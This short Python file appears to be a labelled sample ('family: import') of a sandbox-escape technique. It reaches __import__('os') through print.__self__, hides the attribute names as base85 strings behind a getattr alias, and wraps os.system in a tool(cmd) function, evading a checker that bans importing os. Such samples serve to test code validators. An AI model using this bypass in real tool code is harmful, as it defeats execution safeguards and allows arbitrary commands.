# family: import
# Escape: print.__self__ is the builtins module; the names "__self__" and "__import__" are base85-decoded at
# run time and read through a getattr alias that passes because the module also binds getattr ("getattr =
# getattr"). __import__("os") is an import of a forbidden module without any import statement.
import base64

getattr = getattr
attr = getattr


def tool(cmd: str) -> int:
    builtins_module = attr(print, base64.b85decode("Ute=&Y-V3y").decode())
    return attr(builtins_module, base64.b85decode("Utei$aBp&SUta").decode())("os").system(cmd)
